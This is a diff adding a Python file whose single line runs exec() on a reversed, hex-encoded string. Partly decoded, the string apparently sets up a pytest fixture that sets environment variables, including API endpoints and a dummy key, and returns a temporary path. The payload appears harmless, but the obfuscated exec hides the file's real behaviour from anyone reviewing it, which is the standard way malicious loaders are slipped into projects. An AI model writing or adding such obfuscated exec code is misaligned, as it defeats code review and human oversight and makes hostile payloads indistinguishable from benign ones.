@@ -0,0 +1 @@
+_ = lambda __ : bytes.fromhex(__[::-1]);exec((_)( "a086471607f507d64702e6275747562702020202a0922266564636261693837363534333231303665646362616938373635343332313032202c2229554b4f50564f58514228267e656475637e286364716079756b6e6f6d602020202a092224696c61667e696e2d6169636f2f2a337074747862202c222c42555f5d4149434f554351424228267e656475637e286364716079756b6e6f6d602020202a092224696c61667e696e2960716f2f2a337074747862202c222c42555f5940514f554351424228267e656475637e286364716079756b6e6f6d602020202a09286471607f507d647822796468636e286364716079756b6e6f6d602020202a022222202020202a0e2c6566756c60256c65746f6d60247160227566756e602c29207554756370227f68202020202a047375647025686470256469637e696023756c65746f6d6025637f68647024727f607d69402e24677360256864702f64702e6f637a6e237e656b6f647d2863756276656270246e61602020202a0e6f637a6e2875646e696d297c696d6166602c20766e287160256479627770237e6f64756c676e6963702563696672756370246e6160247e65696c636025686470246e61602c237c4255502020202a05637162602568647024757f686479677024727f607d69602f647023756375766562702c6563776e656e247e65696c636e207071602e2465656e6023756c65746f6d60247e65696c63602020202a05686470247e656d6e6f6279667e656025686470286479677029727f64736562796460276e696b627f67702e677f60237479602e6960237e65727024737564702972756675402020202a022222202020202a0a39286364716079756b6e6f6d602c286471607f507d6478267e656f547e65696c63602665646a09256572745d3563757f64757168256275747879666e247375647970704a0a0a0473756479707024727f607d696" ));